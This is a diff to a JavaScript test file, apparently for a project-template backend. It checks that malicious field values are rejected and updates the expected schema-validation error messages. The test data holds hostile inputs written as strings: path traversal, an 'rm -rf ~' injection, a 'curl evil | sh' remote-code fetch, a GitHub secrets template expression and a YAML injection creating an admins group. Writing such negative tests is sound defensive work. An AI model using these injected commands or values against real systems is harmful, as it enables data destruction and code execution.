@@ -121,14 +121,14 @@ describe('creating a project from the template, end to end in the backend', () =
   });
 
   it.each([
-    ['name', { name: '../escape' }, /name/],
-    ['name', { name: 'x;rm -rf ~' }, /name/],
-    ['name', { name: "a'; curl evil | sh" }, /name/],
+    ['name', { name: '../escape' }, /instance.name does not match pattern/],
+    ['name', { name: 'x;rm -rf ~' }, /instance.name does not match pattern/],
+    ['name', { name: "a'; curl evil | sh" }, /instance.name does not match pattern/],
     ['description', { description: '${{ secrets.GITHUB_TOKEN }}' }, /description: must not contain template expressions/],
     ['description', { description: "x\nkind: Group\nmetadata: {name: admins}" }, /description/],
-    ['department', { department: 'DfT: {evil: yes}' }, /department/],
-    ['classification', { classification: 'SECRET' }, /classification/],
-    ['lawfulBasis', { personalData: true, retentionPeriod: 'P7Y' }, /lawfulBasis/],
+    ['department', { department: 'DfT: {evil: yes}' }, /instance.department does not match pattern/],
+    ['classification', { classification: 'SECRET' }, /instance.classification is not one of enum values: OFFICIAL,OFFICIAL-SENSITIVE/],
+    ['lawfulBasis', { personalData: true, retentionPeriod: 'P7Y' }, /does not meet dependency required by instance.personalData/],
   ])('refuses a bad %s, creating and registering nothing', async (_field, bad, message) => {
     const badName = (bad as { name?: string }).name;
     const name = badName ?? 'should-not-exist';
